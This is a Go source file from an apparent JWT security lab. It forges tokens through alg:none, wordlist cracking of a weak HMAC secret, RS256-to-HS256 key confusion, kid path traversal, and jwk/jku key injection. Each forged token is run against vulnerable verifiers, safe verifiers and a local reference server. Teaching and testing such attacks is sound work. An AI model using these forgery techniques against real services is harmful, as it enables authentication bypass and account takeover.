package attacks

import (
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"jwtlab/internal/jose"
	asym "jwtlab/lessons/07-asym"
	jwk "jwtlab/lessons/08-jwk"
	simplejwt "jwtlab/lessons/12-simplejwt"
	"jwtlab/server"
	"jwtlab/server/servertest"
)

// withReference runs f with a reference server started for it.
func withReference(keys *server.Keys, f func(ref *servertest.Server) error) error {
	ref, err := StartReference(keys)
	if err != nil {
		return err
	}
	defer ref.Close()
	return f(ref)
}

// StepDecodeOnly is the step "Decoding is not verifying".
func StepDecodeOnly(w io.Writer) error {
	return withReference(nil, func(ref *servertest.Server) error {
		stolen := Stolen(DemoKey)
		forged := Swap(stolen, Wanted())
		// The same header and claims signed with the server's key: were
		// this refused too, the 401 above would prove nothing.
		honest := SignHS256(DemoKey, simplejwt.Header, Wanted())
		fmt.Fprintln(w, "stolen token:           ", Outcome(Pinned(DemoKey), stolen))
		fmt.Fprintln(w, "vulnerable:             ", Outcome(DecodeOnly(), forged))
		fmt.Fprintln(w, "safe:                   ", Outcome(Pinned(DemoKey), forged))
		fmt.Fprintln(w, "reference:              ", AskReference(ref.URL, forged))
		fmt.Fprintln(w, "reference, honest token:", AskReference(ref.URL, honest))
		return nil
	})
}

// StepHeaderPicksAlg is the step "alg: none".
func StepHeaderPicksAlg(w io.Writer) error {
	return withReference(nil, func(ref *servertest.Server) error {
		forged := Unsigned(Wanted())
		fmt.Fprintln(w, "vulnerable:", Outcome(HeaderPicksAlg(DemoKey), forged))
		fmt.Fprintln(w, "safe:      ", Outcome(Pinned(DemoKey), forged))
		fmt.Fprintln(w, "reference: ", AskReference(ref.URL, forged))
		return nil
	})
}

// StepCrack is the step "A weak HMAC secret".
func StepCrack(w io.Writer) error {
	return withReference(nil, func(ref *servertest.Server) error {
		weak := []byte("your-256-bit-secret")
		secret, tries, ok := Crack(Stolen(weak), Wordlist())
		fmt.Fprintf(w, "weak key cracked: %v after %d guesses: %q\n", ok, tries, secret)
		forged := SignHS256([]byte(secret), simplejwt.Header, Wanted())
		fmt.Fprintln(w, "victim with the weak key:", Outcome(Pinned(weak), forged))
		_, tries, ok = Crack(Stolen(DemoKey), Wordlist())
		fmt.Fprintf(w, "public demo key, not in this wordlist: cracked %v after %d guesses\n", ok, tries)
		fmt.Fprintln(w, "reference:", AskReference(ref.URL, forged))
		fmt.Fprintf(w, "%d bytes, below jwtlab serve -profile prod's minimum of %d: %v\n", len(weak), server.MinSecretBytes, len(weak) < server.MinSecretBytes)
		prod := server.ProdConfig()
		fmt.Fprintln(w, "the demo key under -profile prod:", prod.CheckSecret(DemoKey))
		return nil
	})
}

// StepOneKeyForAll is the step "RS256 to HS256: algorithm confusion".
func StepOneKeyForAll(w io.Writer) error {
	priv, _ := asym.PrivateKey(asym.VectorKey(asym.Vector("RS256")))
	der, _ := x509.MarshalPKCS8PrivateKey(priv)
	key, err := jose.ParsePEM(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	if err != nil {
		return err
	}
	keys, err := server.NewKeys(key)
	if err != nil {
		return err
	}
	return withReference(keys, func(ref *servertest.Server) error {
		pub := priv.Public().(*rsa.PublicKey)
		header := fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"JWT"}`, keys.Signing().Kid)
		forged := SignHS256(PublicPEM(pub), header, Wanted())
		// The same claims signed as the server signs: were this refused
		// too, the 401 above would prove nothing.
		input := b64(fmt.Sprintf(`{"alg":"RS256","kid":%q,"typ":"JWT"}`, keys.Signing().Kid)) + "." + b64(Wanted())
		sig, err := asym.Sign("RS256", priv, input)
		if err != nil {
			return err
		}
		fmt.Fprintln(w, "vulnerable:             ", Outcome(OneKeyForAll(PublicPEM(pub)), forged))
		fmt.Fprintln(w, "safe:                   ", Outcome(PinnedRS256(pub), forged))
		fmt.Fprintln(w, "reference:              ", AskReference(ref.URL, forged))
		fmt.Fprintln(w, "reference, honest token:", AskReference(ref.URL, input+"."+sig))
		return nil
	})
}

// StepKidFromDisk is the step "kid path traversal".
func StepKidFromDisk(w io.Writer) error {
	return withReference(nil, func(ref *servertest.Server) error {
		site := SiteFiles()
		robots := site["static/robots.txt"].Data
		forged := SignHS256(robots, `{"alg":"HS256","kid":"../static/robots.txt","typ":"JWT"}`, Wanted())
		fmt.Fprintln(w, "vulnerable:", Outcome(KidFromDisk(site), forged))
		fmt.Fprintln(w, "safe:      ", Outcome(KnownKids(map[string][]byte{"current": DemoKey}), forged))
		fmt.Fprintln(w, "reference: ", AskReference(ref.URL, forged))
		return nil
	})
}

// StepKeyFromHeader is the step "Keys from the token: jwk and jku".
func StepKeyFromHeader(w io.Writer) error {
	return withReference(nil, func(ref *servertest.Server) error {
		mine := jwk.DemoKey("attacker")
		public, _ := jwk.Public(mine)
		embedded, _ := json.Marshal(public)
		viaJWK, _ := SignEdDSA(mine, `{"alg":"EdDSA","jwk":`+string(embedded)+`}`, Wanted())
		host, err := servertest.NewHost(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			json.NewEncoder(w).Encode(jwk.Set{Keys: []asym.JWK{public}})
		}))
		if err != nil {
			return err
		}
		defer host.Close()
		viaJKU, _ := SignEdDSA(mine, `{"alg":"EdDSA","jku":"`+host.URL+`","kid":"`+mine.Kid+`"}`, Wanted())
		fetch := func(url string) ([]byte, error) {
			resp, err := http.Get(url)
			if err != nil {
				return nil, err
			}
			defer resp.Body.Close()
			return io.ReadAll(resp.Body)
		}
		victim, _ := jwk.Public(jwk.DemoKey("victim"))
		for _, forged := range []struct{ name, token string }{{"jwk", viaJWK}, {"jku", viaJKU}} {
			fmt.Fprintf(w, "%s vulnerable: %s\n", forged.name, Outcome(KeyFromHeader(fetch), forged.token))
			fmt.Fprintf(w, "%s safe:       %s\n", forged.name, Outcome(OwnKeys(jwk.Set{Keys: []asym.JWK{victim}}), forged.token))
			fmt.Fprintf(w, "%s reference:  %s\n", forged.name, AskReference(ref.URL, forged.token))
		}
		return nil
	})
}

// StepSafeClaims is the step "Safe means the claims too".
func StepSafeClaims(w io.Writer) error {
	rsaKey, err := asym.PrivateKey(asym.VectorKey(asym.Vector("RS256")))
	if err != nil {
		return err
	}
	edKey := jwk.DemoKey("victim")
	edPublic, err := jwk.Public(edKey)
	if err != nil {
		return err
	}
	iat, exp := now().Unix(), now().Add(5*time.Minute).Unix()
	elsewhere := fmt.Sprintf(`{"token_type":"access","aud":"billing-service","iss":"someone-else","exp":%d,"iat":%d,"user_id":1}`, exp, iat)
	for _, p := range []struct {
		name, payload string
		opts          []jwt.ParserOption
	}{
		{"expired", fmt.Sprintf(`{"token_type":"access","exp":1000,"iat":%d,"user_id":1}`, iat), nil},
		{"no exp", fmt.Sprintf(`{"token_type":"access","iat":%d,"user_id":1}`, iat), nil},
		{"refresh", fmt.Sprintf(`{"token_type":"refresh","exp":%d,"iat":%d,"user_id":1}`, exp, iat), nil},
		{"another service's aud and iss, no jti", elsewhere, nil},
		{`the same, verifier given WithAudience("jwtlab")`, elsewhere, []jwt.ParserOption{jwt.WithAudience("jwtlab")}},
		{`the same, verifier given WithIssuer("jwtlab")`, elsewhere, []jwt.ParserOption{jwt.WithIssuer("jwtlab")}},
	} {
		hs := SignHS256(DemoKey, `{"alg":"HS256","typ":"JWT"}`, p.payload)
		rs, err := asym.Sign("RS256", rsaKey, b64(`{"alg":"RS256"}`)+"."+b64(p.payload))
		if err != nil {
			return err
		}
		ed, err := SignEdDSA(edKey, `{"alg":"EdDSA","kid":"`+edKey.Kid+`"}`, p.payload)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "%s:\n", p.name)
		fmt.Fprintln(w, "  Pinned:     ", Outcome(Pinned(DemoKey, p.opts...), hs))
		fmt.Fprintln(w, "  PinnedRS256:", Outcome(PinnedRS256(rsaKey.Public().(*rsa.PublicKey), p.opts...), b64(`{"alg":"RS256"}`)+"."+b64(p.payload)+"."+rs))
		fmt.Fprintln(w, "  OwnKeys:    ", Outcome(OwnKeys(jwk.Set{Keys: []asym.JWK{edPublic}}, p.opts...), ed))
	}
	return nil
}
